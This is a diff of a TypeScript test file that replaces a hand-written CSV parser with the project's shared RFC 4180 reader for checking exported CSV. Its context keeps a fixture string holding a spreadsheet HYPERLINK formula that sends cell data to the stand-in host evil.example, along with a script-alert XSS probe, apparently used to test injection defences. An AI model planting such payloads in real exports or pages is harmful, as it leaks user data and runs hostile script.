@@ -11,6 +11,7 @@ import type { AuditView } from '../../worker/audit/read.ts';
 import type { LedgerItem } from '../../worker/ledger/items.ts';
 import { call, COUNTY, OTHER_COUNTY, seed, T1, T2, T_OTHER, PASSWORD } from './helpers.ts';
 import { callWith, submission, V, villages, type Answer } from './submission-helpers.ts';
+import { parseCsv as readCsv } from '../../shared/sheet/csv.ts';
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")<script>alert(1)</script>';
 
@@ -58,37 +59,10 @@ const expectStatus = async (res: Response, status: number): Promise<Response> =>
 
 const postSub = (login: string, json: unknown) => call(login, '/api/submissions', { method: 'POST', json });
 
-/** RFC 4180 parsing (quotes, doubled quotes, CRLF). */
+/** The export read back with kaoping's own CSV reader (shared/sheet/csv.ts: RFC 4180, written independently of
+ * the writer in shared/output/csv.ts). */
 function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += ch;
-  }
-  if (field || row.length) {
-    row.push(field);
-    rows.push(row);
-  }
-  return rows;
+  return readCsv(text, { delimiter: ',' }).rows;
 }
 
 async function list(login: string, query = ''): Promise<{ county: string; entries: AuditView[]; nextCursor: string | null }> {
